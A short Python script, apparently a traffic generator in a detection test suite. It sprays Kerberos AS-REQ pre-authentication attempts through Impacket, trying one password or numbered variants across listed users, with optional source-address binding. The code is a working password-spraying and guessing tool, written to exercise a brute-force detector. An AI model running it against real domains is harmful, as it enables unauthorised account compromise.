#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
# kerberos_spray.py [--source ADDR] [--tries N] KDC_IP REALM PASSWORD USER...:
# Kerberos password spraying as kerbrute's passwordspray and Impacket's tools
# send it: for each USER in turn an AS-REQ with pre-authentication
# (PA-ENC-TIMESTAMP made with PASSWORD), over TCP to port 88, through
# Impacket's getKerberosTGT. A KDC answers a wrong password with
# KDC_ERR_PREAUTH_FAILED and an unknown user with
# KDC_ERR_C_PRINCIPAL_UNKNOWN. With --tries N each USER is tried N times,
# with PASSWORD, PASSWORD1, PASSWORD2...: password guessing, when one USER
# is given. --source binds the connections to ADDR (a second client
# address). Traffic for kerberos.brute_force in selftests/e2e/test_dcerpc_dc.sh
# and the coverage scenario kerberos_spray. Prints one line per try (the
# KDC's error, or "ok"); exits 0 when every request was answered.
import argparse
import socket
import sys

from impacket.krb5 import constants
from impacket.krb5 import kerberosv5
from impacket.krb5.kerberosv5 import KerberosError, getKerberosTGT
from impacket.krb5.types import Principal


def bound_socket(addr):
    """A socket class whose connections leave from @addr."""

    class Bound(socket.socket):
        def connect(self, sa):
            self.bind((addr, 0))
            return super().connect(sa)

    return Bound


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--source", help="the client address to send from")
    ap.add_argument("--tries", type=int, default=1, help="passwords tried per user")
    ap.add_argument("kdc")
    ap.add_argument("realm")
    ap.add_argument("password")
    ap.add_argument("users", nargs="+")
    a = ap.parse_args()
    if a.source:
        # Impacket's sendReceive() makes its socket with socket.socket
        kerberosv5.socket.socket = bound_socket(a.source)
    unanswered = 0
    for user in a.users:
        name = Principal(user, type=constants.PrincipalNameType.NT_PRINCIPAL.value)
        for i in range(max(a.tries, 1)):
            password = a.password + (str(i) if i else "")
            try:
                getKerberosTGT(name, password, a.realm, b"", b"", "", a.kdc)
                print("%s: ok" % user)
            except KerberosError as e:
                print("%s: %s" % (user, e.getErrorString()[0]))
            except OSError as e:
                print("%s: no answer (%s)" % (user, e))
                unanswered += 1
            except Exception as e:  # noqa: BLE001 (Impacket's own, e.g. an etype it lacks)
                print("%s: %s: %s" % (user, type(e).__name__, e))
    return 1 if unanswered else 0


if __name__ == "__main__":
    sys.exit(main())
